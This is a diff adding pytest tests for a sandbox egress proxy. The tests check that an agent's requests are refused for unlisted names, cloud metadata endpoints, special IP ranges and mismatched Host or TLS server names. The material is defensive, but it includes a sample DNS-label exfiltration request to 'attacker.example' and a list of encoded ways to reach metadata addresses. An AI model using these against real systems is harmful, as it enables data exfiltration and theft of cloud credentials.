@@ -5,6 +5,7 @@ from __future__ import annotations
 import ipaddress
 import os
 import socket
+import ssl
 import threading
 import time
 from collections.abc import Iterator
@@ -16,7 +17,9 @@ import pytest
 from bot.sandbox import EgressPolicy
 from bot.sandbox.egress import EgressProxy
 from bot.sandbox.egress_policy import domain_matches, own_addresses
+from bot.sandbox.egress_wire import ACCESS_DENIED
 from tests.fakes.http import stop_server
+from tests.fakes.internet import FakeUpstream
 
 OFF = EgressPolicy()
 INTERNET = EgressPolicy(internet=True)
@@ -86,7 +89,8 @@ def test_the_default_policy_reaches_nothing() -> None:
 def test_allow_cidrs_opens_exactly_those_ranges() -> None:
     private = EgressPolicy(allow_cidrs=("10.77.0.0/24",))
     assert refusal(private, "10.77.0.10", "10.77.0.10") is None
-    assert refusal(private, "build-cache.internal", "10.77.0.5") is None, "a name resolving into the range"
+    assert "is a name, which is not looked up" in (refusal(private, "build-cache.internal", "10.77.0.5") or ""), \
+        "with network off, allow_cidrs opens addresses: a name is refused before any lookup"
     assert refusal(private, "::ffff:10.77.0.10", "::ffff:10.77.0.10") is None
     assert "network is off" in (refusal(private, "10.78.0.1", "10.78.0.1") or "")
     assert "network is off" in (refusal(private, "198.51.100.10", "198.51.100.10") or "")
@@ -307,3 +311,153 @@ def test_a_private_dir_is_0700_and_close_removes_it_and_cuts_tunnels(
     assert sock.recv(1) == b""
     assert not egress.directory.exists()
     egress.close()  # twice is fine
+
+
+# --- refusals before any lookup or connection (lookups and connections through FakeUpstream) ---------------
+
+TEREDO_ALIBABA = "2001:0:c633:6401::9b9b:9b37"  # Teredo: server 198.51.100.1, client 100.100.100.200
+TEREDO_PRIVATE = "2001:0:c633:6401::f5ff:fffe"  # Teredo: client 10.0.0.1
+
+
+@pytest.fixture
+def fake_upstream(origin: ThreadingHTTPServer) -> FakeUpstream:
+    """Lookups answer from a table, and every connection lands on `origin`: nothing leaves the machine."""
+    return FakeUpstream(origin.server_address[1], {"allowed.example": ["198.51.100.10"],
+                                                    "other.example": ["198.51.100.20"]})
+
+
+@pytest.fixture
+def guarded(tmp_path: Path, fake_upstream: FakeUpstream) -> Iterator[EgressProxy]:
+    """A proxy as the launchers run it (every host refusal on), over the fake upstream."""
+    egress = EgressProxy(tmp_path / "guarded.sock", OFF, upstream=fake_upstream)
+    yield egress
+    egress.close()
+
+
+def test_with_network_off_a_name_is_refused_before_any_lookup(guarded: EgressProxy, fake_upstream: FakeUpstream,
+                                                              origin: ThreadingHTTPServer) -> None:
+    exfil = "c2vjcmv0.attacker.example"  # data in a DNS label
+    for policy in (OFF, EgressPolicy(allow_cidrs=("198.51.100.0/24",))):
+        guarded.policy = policy
+        for request in (f"GET http://{exfil}/ HTTP/1.1\r\nHost: {exfil}\r\n\r\n",
+                        f"CONNECT {exfil}:443 HTTP/1.1\r\n\r\n"):
+            reply = read_all(ask(guarded, request.encode()))
+            assert reply.startswith(b"HTTP/1.1 403 Forbidden\r\n"), reply
+            assert b"network is off for the agent" in reply and b"allow_domains" in reply
+        assert guarded.blocked() == {f"{exfil}:80": 1, f"{exfil}:443": 1}
+    assert fake_upstream.looked_up == [] and fake_upstream.connected == []
+    reply = read_all(ask(guarded, b"GET http://198.51.100.10/who HTTP/1.1\r\nHost: 198.51.100.10\r\n\r\n"))
+    assert reply.startswith(b"HTTP/1.1 200") and fake_upstream.connected == [("198.51.100.10", 80)], \
+        "allow_cidrs still opens its addresses"
+    assert origin.seen[0][0] == "GET /who HTTP/1.1"  # type: ignore[attr-defined]
+
+
+@pytest.mark.parametrize("target", [
+    "169.254.169.254", "[fd00:ec2::254]", "[fd00:ec2::253]", "100.100.100.200", "168.63.129.16", "192.0.0.192",
+    "[fd20:ce::254]", "[::ffff:100.100.100.200]", "[::ffff:0:a9fe:a9fe]", "[64:ff9b::6464:64c8]",
+    "[64:ff9b:1:a9fe:a9:fe00::]", f"[{TEREDO_ALIBABA}]", "[2002:a83f:8110::1]", "metadata.example",
+])
+def test_metadata_is_never_reached_whatever_allow_cidrs_says(
+    tmp_path: Path, fake_upstream: FakeUpstream, origin: ThreadingHTTPServer, target: str
+) -> None:
+    fake_upstream.names["metadata.example"] = ["fd00:ec2::254"]
+    everything = EgressPolicy(internet=True, allow_cidrs=("0.0.0.0/0", "::/0"))
+    for guard_host in (True, False):  # the test-only mode without host refusals still refuses metadata
+        egress = EgressProxy(tmp_path / f"m{guard_host}.sock", everything, guard_host=guard_host,
+                             upstream=fake_upstream)
+        try:
+            reply = read_all(ask(egress, f"GET http://{target}/latest/ HTTP/1.1\r\n\r\n".encode()))
+        finally:
+            egress.close()
+        assert reply.startswith(b"HTTP/1.1 403 Forbidden\r\n") and b"which is never reachable" in reply, reply
+    assert fake_upstream.connected == [] and origin.seen == []  # type: ignore[attr-defined]
+
+
+@pytest.mark.parametrize("target, why", [
+    ("198.18.0.1", "benchmarking"), ("198.19.255.1", "benchmarking"), ("192.0.0.8", "IETF protocol assignments"),
+    ("[::ffff:0:a00:1]", "private"), ("[64:ff9b:1::a00:1]", "private"),
+    ("[64:ff9b:1:c633:64:a00::]", "local-use NAT64"),
+    (f"[{TEREDO_PRIVATE}]", "private"), ("[2001:0:c633:6401::39cc:9bf5]", "Teredo"), ("[2002:c633:640a::1]", "6to4"),
+])
+def test_special_ranges_and_the_ipv4_they_carry_are_not_public(
+    guarded: EgressProxy, fake_upstream: FakeUpstream, target: str, why: str
+) -> None:
+    guarded.policy = INTERNET
+    reply = read_all(ask(guarded, f"CONNECT {target}:443 HTTP/1.1\r\n\r\n".encode()))
+    assert reply.startswith(b"HTTP/1.1 403 Forbidden\r\n") and why.encode() in reply and b"allow_cidrs" in reply, reply
+    assert fake_upstream.connected == []
+
+
+def test_plain_http_must_name_the_checked_host_in_its_host_header(
+    guarded: EgressProxy, fake_upstream: FakeUpstream, origin: ThreadingHTTPServer
+) -> None:
+    guarded.policy = EgressPolicy(allow_domains=("allowed.example",))
+    for headers, rule in (("Host: other.example\r\n", b"the Host header names 'other.example', not allowed.example"),
+                          ("Host: allowed.example\r\nHost: other.example\r\n", b"2 Host headers")):
+        reply = read_all(ask(guarded, f"GET http://allowed.example/ HTTP/1.1\r\n{headers}\r\n".encode()))
+        assert reply.startswith(b"HTTP/1.1 403 Forbidden\r\n") and rule in reply, reply
+    assert fake_upstream.connected == [] and guarded.blocked() == {"allowed.example:80": 2}
+    reply = read_all(ask(guarded, b"GET http://allowed.example/x HTTP/1.1\r\nHost: Allowed.Example:80\r\n\r\n"))
+    assert reply.startswith(b"HTTP/1.1 200")
+    assert origin.seen[0][1]["Host"] == "Allowed.Example:80"  # type: ignore[attr-defined]
+
+
+def client_hello(server_name: str | None) -> bytes:
+    """The ClientHello a real TLS client (Python's ssl) sends, naming `server_name` (None: no SNI)."""
+    context = ssl.create_default_context()
+    context.check_hostname = server_name is not None
+    incoming, outgoing = ssl.MemoryBIO(), ssl.MemoryBIO()
+    tls = context.wrap_bio(incoming, outgoing, server_hostname=server_name)
+    with pytest.raises(ssl.SSLWantReadError):
+        tls.do_handshake()
+    return outgoing.read()
+
+
+@pytest.fixture
+def sink() -> Iterator[tuple[int, list[bytes]]]:
+    """A TCP server on loopback that records the first bytes of each connection: (port, received)."""
+    server = socket.create_server(("127.0.0.1", 0))
+    received: list[bytes] = []
+
+    def serve() -> None:
+        while True:
+            try:
+                conn, _ = server.accept()
+            except OSError:
+                return
+            with conn:
+                conn.settimeout(5)
+                received.append(conn.recv(65536))
+
+    threading.Thread(target=serve, daemon=True).start()
+    yield server.getsockname()[1], received
+    server.close()
+
+
+def test_a_tunnel_allowed_by_name_must_carry_that_name_in_its_tls_server_name(
+    tmp_path: Path, sink: tuple[int, list[bytes]]
+) -> None:
+    port, received = sink
+    upstream = FakeUpstream(port, {"allowed.example": ["198.51.100.10"]})
+    egress = EgressProxy(tmp_path / "sni.sock", EgressPolicy(allow_domains=("allowed.example",)), upstream=upstream)
+    try:
+        for hello, answer in ((client_hello("other.example"), ACCESS_DENIED), (client_hello(None), ACCESS_DENIED),
+                              (b"GET / HTTP/1.1\r\nHost: other.example\r\n\r\n", b"HTTP/1.1 403 Forbidden\r\n")):
+            sock = ask(egress, b"CONNECT allowed.example:443 HTTP/1.1\r\n\r\n")
+            assert read_head(sock) == b"HTTP/1.1 200 Connection established\r\n\r\n"
+            sock.sendall(hello)
+            assert read_all(sock).startswith(answer)
+        assert upstream.connected == [] and egress.blocked() == {"allowed.example:443": 3}
+        hello = client_hello("allowed.example")
+        sock = ask(egress, b"CONNECT allowed.example:443 HTTP/1.1\r\n\r\n")
+        assert read_head(sock).startswith(b"HTTP/1.1 200")
+        sock.sendall(hello[:7])  # a ClientHello may arrive in pieces
+        time.sleep(0.1)
+        sock.sendall(hello[7:])
+        deadline = time.monotonic() + 5
+        while not received and time.monotonic() < deadline:
+            time.sleep(0.02)
+        sock.close()
+        assert received == [hello] and upstream.connected == [("198.51.100.10", 443)], "forwarded unchanged"
+    finally:
+        egress.close()
